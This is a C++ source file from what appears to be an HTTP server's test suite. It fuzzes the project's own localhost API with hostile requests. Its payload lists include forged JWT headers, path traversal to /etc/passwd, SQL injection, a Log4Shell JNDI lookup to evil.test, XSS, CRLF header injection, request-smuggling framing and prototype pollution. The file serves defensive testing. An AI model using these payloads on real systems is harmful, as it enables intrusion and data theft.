#include "http/hostile_requests.hpp"

#include <fmt/format.h>

#include <algorithm>

namespace ignition::http_test {
namespace {

using Texts = std::vector<std::string>;
using namespace std::string_literals;

constexpr std::string_view kBase64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

std::string base64url(std::string_view bytes) {
  std::string out;
  std::uint32_t bits = 0;
  int held = 0;
  for (const char c : bytes) {
    bits = (bits << 8U) | static_cast<unsigned char>(c);
    for (held += 8; held >= 6; held -= 6) out += kBase64[(bits >> static_cast<unsigned>(held - 6)) & 63U];
  }
  if (held > 0) out += kBase64[(bits << static_cast<unsigned>(6 - held)) & 63U];
  return out;
}

std::string repeated(std::string_view text, std::size_t times) {
  std::string out;
  for (std::size_t i = 0; i < times; ++i) out += text;
  return out;
}

// Every kind of operation that stores something, and some that only read; on both surfaces.
const std::vector<std::array<const char*, 3>>& calls() {
  static const std::vector<std::array<const char*, 3>> all{
      {"GET", "/api/v1/today", ""},
      {"GET", "/api/v1/auth/me", ""},
      {"GET", "/api/v1/auth/session", ""},
      {"GET", "/api/v1/sessions?limit=10", ""},
      {"GET", "/api/settings", ""},
      {"PATCH", "/api/v1/settings", R"({"theme":"dark"})"},
      {"PATCH", "/api/settings", R"({"theme":"dark"})"},
      {"POST", "/api/v1/habits", R"({"name":"walk","target_count":2})"},
      {"POST", "/api/v1/focus", R"({"duration_seconds":1500})"},
      {"POST", "/api/v1/captures", R"({"content":"buy milk"})"},
      {"POST", "/api/v1/auth/accept-tos", R"({"accepted":true,"version":"1.0"})"},
      {"POST", "/api/v1/auth/verify-age", R"({"confirmed":true})"},
      {"POST", "/api/v1/auth/login", R"({"identifier":"victim@example.com","password":"12345678"})"},
      {"POST", "/api/v1/auth/register", R"({"email":"new@example.com","password":"correct horse"})"},
      {"POST", "/api/v1/auth/verify-email", R"({"token":"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8"})"},
      {"POST", "/api/v1/auth/reset-password",
       R"({"token":"AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8","new_password":"correct horse"})"},
      {"PATCH", "/api/v1/auth/password", R"({"current_password":"a","new_password":"correct horse"})"},
      {"POST", "/api/v1/auth/reauthenticate", R"({"password":"12345678"})"},
      {"POST", "/api/v1/auth/logout", "{}"},
      {"POST", "/api/v1/sync/poll", "{}"},
      {"POST", "/api/v1/api-keys", R"({"name":"mine","scopes":["captures:write"]})"},
      {"DELETE", "/api/v1/sessions/0194f5c0-0000-7000-8000-000000000002", ""},
      {"DELETE", "/api/v1/user", ""},
      {"GET", "/api/v1/admin/users", ""},
      {"PUT", "/api/v1/admin/flags/today_kill", R"({"enabled":true})"},
      {"GET", "/debug/env", ""},
      {"GET", "/openapi.json", ""},
      {"GET", "/metrics", ""},
      {"GET", "/csrf", ""},
      {"OPTIONS", "/api/v1/settings", ""},
      {"HEAD", "/api/v1/today", ""},
  };
  return all;
}

const Texts& foreign_origins() {
  static const Texts all{"https://evil.test",
                         "null",
                         "https://app.example.com.evil.test",
                         "http://localhost:3000",
                         "https://evil.test/https://app.example.com.evil.test",
                         "https://user@app.example.com.evil.test",
                         "file://"};
  return all;
}

// Whether chance has made a request of the victim's own page out of it.
bool is_of_own_page(std::string_view bytes) {
  const auto at = bytes.find("//app.example.com");
  return at != std::string_view::npos && bytes.find("//app.example.com.evil.test", at) == std::string_view::npos;
}

}  // namespace

std::string HostileRequests::noise(std::size_t length) {
  std::string out(length, '\0');
  for (char& c : out) c = static_cast<char>(up_to(255));
  return out;
}

std::string HostileRequests::token(std::size_t length) {
  std::string out(length, '\0');
  for (char& c : out) c = kBase64[up_to(63)];
  return out;
}

// A JSON Web Token that proves nothing, in one of the ways that libraries were once taken in by.
std::string HostileRequests::web_token() {
  static const Texts kHeaders{R"({"alg":"none","typ":"JWT"})",
                              R"({"alg":"None","typ":"at+jwt"})",
                              R"({"alg":"nOnE"})",
                              R"({"alg":"HS256","typ":"JWT"})",
                              R"({"alg":"RS256","typ":"JWT"})",
                              R"({"alg":"ES256","jwk":{"kty":"EC"}})",
                              R"({"alg":"HS256","kid":"../../../../dev/null"})",
                              R"({"alg":"HS256","kid":"x' UNION SELECT 'k"})",
                              R"({"alg":"HS256","jku":"https://evil.test/keys"})",
                              R"({"alg":["HS256","none"]})",
                              R"({"alg":"HS256","crit":["b64"],"b64":false})",
                              "{}",
                              "",
                              "null",
                              "[]",
                              "{\"alg\":"};
  static const Texts kClaims{
      R"({"sub":"00000000-0000-0000-0000-000000000001","iss":"http://localhost:8080","aud":"ignition","exp":9999999999,"iat":0})",
      R"({"sub":"victim@example.com","role":"super_admin","entitlements":["system:admin"],"exp":9999999999})",
      R"({"sub":{"$ne":null},"exp":"never"})",
      R"({"sub":"x","sub":"y","exp":1e400})",
      R"({"exp":-1,"nbf":9999999999})",
      "{}",
      "true"};
  std::string claims = any(kClaims);
  if (one_in(10)) claims.insert(1, fmt::format(R"("pad":"{}",)", std::string(up_to(14'000), 'a')));
  std::string out = base64url(any(kHeaders)) + "." + base64url(claims) + ".";
  if (!one_in(3)) out += token(one_in(2) ? 43 : up_to(400));
  if (one_in(6)) out.resize(up_to(out.size()));
  if (one_in(8)) out += any(Texts{".", ".a.b", "=", "==", "%3D", " ", "\t", "\x80"});
  return out;
}

HostileRequests::Draft HostileRequests::seed() {
  const auto& [method, target, body] = calls()[up_to(calls().size() - 1)];
  Draft draft{.method = method, .target = target, .fields = {"Host: localhost"}, .body = body};
  if (!draft.body.empty()) draft.fields.push_back("Content-Type: application/json");
  const bool changes = draft.method != "GET" && draft.method != "HEAD" && draft.method != "OPTIONS";
  switch (up_to(5)) {
    case 0:  // as a page of another site makes a victim's browser ask
      if (changes) draft.fields.push_back("Cookie: session=" + stolen_.session);
      draft.fields.push_back("Origin: " + any(foreign_origins()));
      break;
    case 1:
      draft.fields.push_back("Cookie: session=" + token(43));
      draft.fields.push_back("X-CSRF-Token: " + token(32) + "." + token(64));
      break;
    case 2:
      draft.fields.push_back("Authorization: Bearer " + web_token());
      break;
    case 3:
      draft.fields.push_back("Authorization: Bearer " + stolen_.api_key.substr(0, up_to(stolen_.api_key.size() - 1)));
      break;
    case 4:  // as above, without a word about where it comes from
      if (changes) draft.fields.push_back("Cookie: session=" + stolen_.session);
      break;
    default:
      break;
  }
  if (one_in(4)) draft.fields.push_back("Idempotency-Key: " + token(1 + up_to(200)));
  if (one_in(6)) draft.fields.push_back("X-Client-Type: native");
  return draft;
}

void HostileRequests::change_target(Draft& draft) {
  static const Texts kEnds{"/../../etc/passwd",
                           "/..%2f..%2fetc%2fpasswd",
                           "/%2e%2e/%2e%2e/users",
                           "%00",
                           "/%00/",
                           "%ff%fe",
                           "%",
                           "%2",
                           "%zz",
                           "/./",
                           "//",
                           "\\..\\",
                           "?",
                           "?&&&=&=",
                           "?a=%00",
                           "?limit=%ff",
                           "?limit=-1",
                           "?limit=99999999999999999999",
                           "?limit=1&limit=2",
                           "?q=' OR 1=1--",
                           "?q=%27%3B%20DROP%20TABLE%20users%3B--",
                           "#fragment",
                           "?x=<script>",
                           ";jsessionid=1",
                           "\r\nX-Injected: 1",
                           " HTTP/1.1\r\nX: ",
                           "?\x80\xff",
                           "\t",
                           "\x01",
                           "/\xc0\xaf\xc0\xae"};
  switch (up_to(6)) {
    case 0:
      draft.target = any(Texts{"http://localhost", "http://evil.test", "https://localhost:1", "ftp://localhost",
                               "http://user:pass@localhost", "http://[::1", "http://", "//evil.test", "http:///",
                               "HTTP://LOCALHOST"}) +
                     draft.target;
      break;
    case 1:
      draft.target = any(Texts{"*", "localhost:443", "", "api/v1/today", "/", "http://localhost", "?", "::", "..",
                               "%2fapi%2fv1%2ftoday", "/api%2fv1/today", "/API/V1/TODAY", "/api/v1//today"});
      break;
    case 2:
      draft.target += "?" + repeated("a=b&", up_to(4'000));
      break;
    case 3:
      draft.target += "/" + std::string(up_to(20'000), 'x');
      break;
    case 4:
      draft.target.insert(up_to(draft.target.size()), noise(1 + up_to(3)));
      break;
    default:
      draft.target += any(kEnds);
  }
}

void HostileRequests::change_host(Draft& draft) {
  std::erase_if(draft.fields, [](const std::string& field) { return field.starts_with("Host:"); });
  static const Texts kHosts{"evil.test",
                            "localhost.evil.test",
                            "localhost:99999",
                            "localhost:",
                            "localhost:80:80",
                            "evil.test:localhost",
                            "[::1",
                            "[::1]evil",
                            "::1",
                            "localhost@evil.test",
                            "",
                            " ",
                            "localhost, evil.test",
                            "localhost\t",
                            "local host",
                            "localhost/",
                            "127.1",
                            "0x7f000001",
                            "localhost\x00.evil.test"s,
                            "\xff\xfe",
                            "localhost.",
                            "2130706433",
                            "[fe80::1%25lo]"};
  if (one_in(8)) return;  // none at all
  draft.fields.insert(draft.fields.begin(), "Host: " + any(kHosts));
  if (one_in(3)) draft.fields.push_back("Host: " + any(Texts{"localhost", "evil.test"}));
  if (one_in(4))
    draft.fields.push_back(any(Texts{"X-Forwarded-Host: evil.test", "Forwarded: host=evil.test;for=127.0.0.1",
                                     "X-Forwarded-For: 127.0.0.1", "X-Real-IP: 127.0.0.1",
                                     "X-Original-URL: /api/v1/admin/users", "X-HTTP-Method-Override: DELETE"}));
}

void HostileRequests::change_method(Draft& draft) {
  if (one_in(3)) {
    draft.version = any(Texts{"HTTP/0.9", "HTTP/1.0", "HTTP/1.2", "HTTP/2.0", "HTTP/1.1 ", "http/1.1", "HTTP/1.1x",
                              "HTTP/11", "HTTP/", "", "HTTP/1.\xff", "HTTP/9999999999.1", "ICY"});
  } else {
    draft.method =
        any(Texts{"CONNECT", "TRACE", "PRI", "get", "GETT", "G", "", "PROPFIND", "\x16\x03\x01\x02", "POST\x00"s,
                  " GET", "GET ", "G\tET", std::string(9'000, 'A'), "\xc3\x84", "PURGE", "M-SEARCH"});
  }
}

// Where one reader of a request may end it elsewhere than another (RFC 9112, 11.2).
void HostileRequests::change_framing(Draft& draft) {
  draft.tells_length = false;
  const std::string inner = "GET /api/v1/auth/me HTTP/1.1\r\nHost: localhost\r\n\r\n";
  const std::string length = std::to_string(draft.body.size());
  const auto chunked = [&](std::string_view size) { return fmt::format("{}\r\n{}\r\n0\r\n\r\n", size, draft.body); };
  const std::string hex = fmt::format("{:x}", draft.body.size());
  switch (up_to(9)) {
    case 0:
      draft.fields.push_back("Content-Length: " + length);
      draft.fields.push_back("Transfer-Encoding: chunked");
      draft.body = chunked(hex) + inner;
      break;
    case 1:
      draft.fields.push_back("Content-Length: " + length);
      draft.fields.push_back("Content-Length: " + any(Texts{"0", "1", "99", length + "0", "-1"}));
      draft.body += inner;
      break;
    case 2:
      draft.fields.push_back("Content-Length: " + any(Texts{"-1", "+5", "0x10", "5,5", "5, 6", "1e3", "", " ",
                                                            "999999999999999999999", "18446744073709551616", "5 5",
                                                            "5;", "\xef\xbc\x95", "00000000000000000000000005"}));
      break;
    case 3:
      draft.fields.push_back("Transfer-Encoding: " +
                             any(Texts{"xchunked", "chunked, identity", "identity, chunked", "chunked\x0b",
                                       "gzip, chunked", "chunked, chunked", "CHUNKED", "\tchunked", "chunked;q=1",
                                       "cow", "", "'chunked'", "chunked\r\n X: y"}));
      draft.body = chunked(hex) + inner;
      break;
    case 4:
      draft.fields.push_back(any(Texts{"Transfer-Encoding : chunked", " Transfer-Encoding: chunked",
                                       "Transfer_Encoding: chunked", "Transfer-Encoding:\x00chunked"s,
                                       "X: y\nTransfer-Encoding: chunked", "Foo: bar\rTransfer-Encoding: chunked"}));
      draft.fields.push_back("Content-Length: " + length);
      draft.body = chunked(hex) + inner;
      break;
    case 5:
      draft.fields.push_back("Transfer-Encoding: chunked");
      draft.body = chunked(any(Texts{"ffffffffffffffff", "fffffffffffffffff", "-1", "+" + hex, "0x" + hex, hex + " ",
                                     hex + ";a=b", "g", "", " " + hex, "00000000000000000000" + hex, hex + ";\x00"s,
                                     hex + "\n", hex + ";" + std::string(9'000, 'e')}));
      break;
    case 6:
      draft.fields.push_back("Transfer-Encoding: chunked");
      draft.body =
          fmt::format("{}\r\n{}", hex, draft.body) +
          any(Texts{"0\r\n\r\n", "\n0\n\n", "\r\n0\r\nTrailer: x\r\n\r\n", "\r\n0\r\nContent-Length: 99\r\n\r\n",
                    "\r\n0\r\n" + repeated("T: x\r\n", 500) + "\r\n", "\r\n1\r\nx", ""});
      break;
    case 7:
      draft.fields.push_back("Content-Length: " + std::to_string(draft.body.size() + up_to(2'000'000)));
      break;
    case 8:
      draft.fields.push_back("Transfer-Encoding: chunked");
      draft.body = repeated("1\r\n \r\n", up_to(3'000)) + "0\r\n\r\n";
      break;
    default:
      draft.fields.push_back("Expect: " + any(Texts{"100-continue", "200-ok", "100-continue, x"}));
      draft.fields.push_back("Content-Length: " + length);
  }
}

void HostileRequests::change_fields(Draft& draft) {
  switch (up_to(8)) {
    case 0:
      for (std::size_t i = up_to(300); i > 0; --i) draft.fields.push_back(fmt::format("X-{}: y", i));
      break;
    case 1:
      draft.fields.push_back("X-Long: " + std::string(up_to(40'000), 'x'));
      break;
    case 2:
      draft.fields.push_back(any(draft.fields));
      break;
    case 3:
      draft.fields.push_back(any(Texts{"NoColon", ": no name", "Bad Name: x", "X\x00Y: z"s, "X: a\x00b"s, "X: \xff\xfe",
                                       " folded: x", "\tfolded", "X:\ty", "X : y", "\x7f: y", "X: a\rb",
                                       "X: a\nInjected: b", "X\r\n: y", "(): x", "\xc3\xa9: x"}));
      break;
    case 4:
      draft.fields.push_back("X-Request-Id: " +
                             any(Texts{"../../x", std::string(200, 'a'), "a\"b}", "\xff", "req_\x1b[31m", "x'--"}));
      break;
    case 5:
      draft.fields.push_back(
          "Content-Type: " +
          any(Texts{"text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
                    "application/json; charset=utf-7", "application/json, text/plain", "", "json", "application/xml"}));
      break;
    case 6:
      draft.fields.push_back("Origin: " + any(foreign_origins()));
      draft.fields.push_back("Referer: " +
                             any(Texts{"https://evil.test/", "https://app.example.com.evil.test/", "//", "about:blank",
                                       "https://app.example.com.evil.test/", "data:text/html,x"}));
      break;
    case 7:
      draft.fields.push_back(any(
          Texts{"If-None-Match: \"", "If-None-Match: " + repeated("W/\"a\",", 1'000), "Range: bytes=0-0,1-1,2-2",
                "If-Match: *", "Accept-Encoding: gzip;q=9e99", "Upgrade: h2c", "Connection: Upgrade, HTTP2-Settings",
                "Connection: close, keep-alive", "Connection: Host", "TE: trailers", "Idempotency-Key: \xff",
                "Idempotency-Key:", "Access-Control-Request-Method: DELETE", "Access-Control-Request-Headers: *"}));
      break;
    default:
      draft.fields.insert(draft.fields.begin() + static_cast<std::ptrdiff_t>(up_to(draft.fields.size())),
                          noise(1 + up_to(30)));
  }
}

void HostileRequests::change_cookies(Draft& draft) {
  static const Texts kCookies{"session",
                              "session=",
                              "=",
                              ";;;;",
                              "session=;session=",
                              "session=\"x\"",
                              "SESSION=x",
                              "session =x",
                              "session= x",
                              "session=a,b",
                              "session=%00",
                              "session=\x00"s,
                              "session=\xff",
                              "csrf_token=",
                              "csrf_token=a; csrf_token=b",
                              "__Host-session=x",
                              "access_token=x; refresh_token=y",
                              "session=../../x",
                              "session={\"$gt\":\"\"}"};
  switch (up_to(4)) {
    case 0:
      draft.fields.push_back("Cookie: " + any(kCookies));
      break;
    case 1: {
      std::string many;
      for (std::size_t i = up_to(100); i > 0; --i) many += "session=" + token(43) + "; ";
      draft.fields.push_back("Cookie: " + many + "x=y");
      break;
    }
    case 2:
      draft.fields.push_back("Cookie: x=" + std::string(up_to(12'000), 'c'));
      break;
    case 3: {
      const std::string forged = token(32) + "." + token(64);
      draft.fields.push_back("Cookie: csrf_token=" + forged);
      draft.fields.push_back("X-CSRF-Token: " + forged);
      break;
    }
    default:
      draft.fields.push_back("Cookie: session=" + token(up_to(90)));
  }
}

void HostileRequests::change_authorization(Draft& draft) {
  static const Texts kSchemes{"Bearer ", "bearer ",    "Bearer",  "Bearer\t", "Bearer  ", "Basic ", "Digest ",
                              "",        "Negotiate ", "BEARER ", "Bearer,",  "Bearer =", "\xff "};
  std::string value = any(kSchemes);
  switch (up_to(4)) {
    case 0:
      value += stolen_.api_key.substr(up_to(stolen_.api_key.size() - 1) + 1);
      break;
    case 1:
      value += stolen_.api_key.substr(0, stolen_.api_key.size() - 1) + noise(1);
      break;
    case 2:
      value += "sk_live_" + token(up_to(100));
      break;
    case 3:
      value += stolen_.session;  // a session is no bearer token
      break;
    default:
      value += web_token();
  }
  draft.fields.push_back("Authorization: " + value);
}

void HostileRequests::change_json(Draft& draft) {
  const std::size_t depth = 1 + up_to(one_in(20) ? 100'000 : 200);
  switch (up_to(9)) {
    case 0:
      draft.body = repeated("[", depth);
      break;
    case 1:
      draft.body = repeated(R"({"a":)", depth) + "1" + repeated("}", depth);
      break;
    case 2:
      draft.body = "{" + repeated(R"("name":"a",)", depth) + R"("name":"b"})";
      break;
    case 3:
      draft.body = any(Texts{"null",        "[]",          "\"\"",
                             "0",           "true",        "{}",
                             "{",           "}",           "{\"",
                             "{\"a\"",      "{\"a\":",     "{\"a\":}",
                             "{,}",         "{\"a\":1,}",  "\xef\xbb\xbf{}",
                             "{}{}",        "{} x",        "NaN",
                             "{'a':1}",     "{a:1}",       "\x00"s,
                             "// x\n{}",    "-",           "1e",
                             "\"\\ud800\"", "\"\\u0000\"", "{\"a\":\"\xff\"}"});
      break;
    case 4:
      draft.body = fmt::format(R"({{"name":{0},"target_count":{0},"duration_seconds":{0}}})",
                               any(Texts{"1e308", "-0", "1e999", "9223372036854775808", "0.1", std::string(2'000, '9'),
                                         "[1]", "{}", "true", "null", R"("\u0000")", R"("\ud83d")", "\"\xc3\x28\""}));
      break;
    case 5:
      draft.body =
          R"({"__proto__":{"is_admin":true},"constructor":{"prototype":{}},"role":"super_admin","user_id":"00000000-0000-0000-0000-000000000001"})";
      break;
    case 6:
      draft.body = fmt::format(
          R"({{"identifier":"{0}","email":"{0}","name":"{0}","content":"{0}","theme":"{0}","password":"{0}"}})",
          any(Texts{"x'; DROP TABLE users;--", "' OR '1'='1", "${jndi:ldap://evil.test/a}", "{{7*7}}",
                    "<script>alert(1)</script>", "../../etc/passwd", "a\\u0000b", "\\r\\nBcc: x@evil.test", "%s%n%x",
                    "\xe2\x80\xae", std::string(5'000, 'A')}));
      break;
    case 7:
      if (!draft.body.empty()) draft.body.resize(up_to(draft.body.size()));
      break;
    case 8:
      draft.body = one_in(30) ? R"({"name":")" + std::string(1'100'000, 'a') + R"("})" : noise(up_to(3'000));
      break;
    default:
      change_bytes(draft.body);
  }
  const bool typed = std::any_of(draft.fields.begin(), draft.fields.end(),
                                 [](const auto& f) { return f.starts_with("Content-Type"); });
  if (!typed) draft.fields.push_back("Content-Type: application/json");
}

void HostileRequests::change_bytes(std::string& bytes) {
  for (std::size_t times = 1 + up_to(3); times > 0 && !bytes.empty(); --times) {
    const std::size_t at = up_to(bytes.size() - 1);
    const std::size_t length = std::min(bytes.size() - at, 1 + up_to(16));
    switch (up_to(4)) {
      case 0:
        bytes[at] = static_cast<char>(static_cast<unsigned char>(bytes[at]) ^ (1U << up_to(7)));
        break;
      case 1:
        bytes.erase(at, length);
        break;
      case 2:
        bytes.insert(at, noise(1 + up_to(8)));
        break;
      case 3:
        bytes.insert(at, bytes.substr(at, length));
        break;
      default:
        bytes.resize(at);
    }
  }
}

void HostileRequests::change(Draft& draft) {
  switch (up_to(7)) {
    case 0:
      return change_target(draft);
    case 1:
      return change_host(draft);
    case 2:
      return change_method(draft);
    case 3:
      return change_framing(draft);
    case 4:
      return change_fields(draft);
    case 5:
      return change_cookies(draft);
    case 6:
      return change_authorization(draft);
    default:
      return change_json(draft);
  }
}

std::string HostileRequests::bytes_of(const Draft& draft) {
  std::string out = draft.method + " " + draft.target + " " + draft.version + "\r\n";
  for (const auto& field : draft.fields) out += field + "\r\n";
  if (draft.tells_length && !draft.body.empty()) out += fmt::format("Content-Length: {}\r\n", draft.body.size());
  out += "\r\n";
  out += draft.body;
  return out;
}

std::string HostileRequests::next() {
  Draft draft = seed();
  for (std::size_t times = up_to(2); times > 0; --times) change(draft);
  std::string bytes = bytes_of(draft);
  if (one_in(5)) change_bytes(bytes);
  if (one_in(50)) bytes = noise(1 + up_to(400));
  return is_of_own_page(bytes) ? next() : bytes;
}

}  // namespace ignition::http_test
